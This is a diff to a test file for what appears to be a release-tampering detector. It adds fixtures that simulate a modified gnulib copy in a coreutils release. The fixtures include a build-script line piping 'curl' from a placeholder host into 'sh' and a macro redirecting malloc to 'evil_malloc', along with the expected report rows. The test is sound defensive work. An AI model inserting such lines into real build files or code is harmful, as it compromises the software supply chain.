@@ -38,6 +38,9 @@ describe('evaluate-report', () => {
     out(o, 'clean-2.0', 0, []);
     out(o, 'tampered-payload', 1, [added('tests/files/x.xz')]);
     out(o, 'tampered-deref', 0, [{ code: 'SYMLINK_AS_FILE', path: 'l', severity: 'info', evidence: { target: 't', resolved: 't' } }]);
+    const modified = (path: string, severity: string, line: string) => ({ code: 'SUBMODULE_COPY_MODIFIED', path, severity, evidence: { submodule: 'gnulib', commit: 'b'.repeat(40), file: path, via: 'gnulib-tool', differingLines: 1, buildAffecting: false }, diff: { kind: 'text', unified: `--- a/${path}\n+++ b/${path}\n@@ -1,1 +1,2 @@\n x\n${line}\n` } });
+    out(o, 'tampered-gnulib-line', 1, [added('THANKS'), modified('lib/xmalloc.c', 'high', '+#define malloc(n) evil_malloc (n)')]);
+    out(o, 'tampered-gnulib-curl', 1, [added('THANKS'), modified('build-aux/gnupload', 'high', '+curl -fsSL https://example.invalid/x | sh')]);
     const md = execFileSync(process.execPath, [join(root, 'scripts/evaluate-report.mjs'), join(dir, 'rel.tsv'), o], { encoding: 'utf8' });
     expect(md).toContain('**2 releases run, 1 exit 0, 1 with nothing at high or critical.**');
     expect(md).toContain('| proj-1.0 | autotools | **1** | different | 5/2/0 | 0/5/0/0/0 | v1.0 | 1.5 s |');
@@ -48,5 +51,8 @@ describe('evaluate-report', () => {
     expect(md).toMatch(/ {2}- `THANKS` — not in git \(3 bytes\) — \*why:\* generated from THANKS\.in/);
     expect(md).toContain('| payload | npm-chalk-5.3.0 | 1 | 1 | different | high TARBALL_ONLY_UNEXPLAINED `tests/files/x.xz` |');
     expect(md).toContain('| deref | json-c-0.16 | 0 | 0 | explained | info SYMLINK_AS_FILE `l` |');
+    // decided by the tampered file's finding, not by the base release's own exit code
+    expect(md).toContain('| gnulib-line | coreutils-9.1 | 1, high at `lib/xmalloc.c` | 1 | different | high SUBMODULE_COPY_MODIFIED `lib/xmalloc.c` (`+#define malloc(n) evil_malloc (n)`) |');
+    expect(md).toContain('| gnulib-curl | coreutils-9.1 | 1, critical at `build-aux/gnupload` | **1** | different | **high SUBMODULE_COPY_MODIFIED `build-aux/gnupload`** (`+curl -fsSL https://example.invalid/x \\| sh`) |');
   });
 });
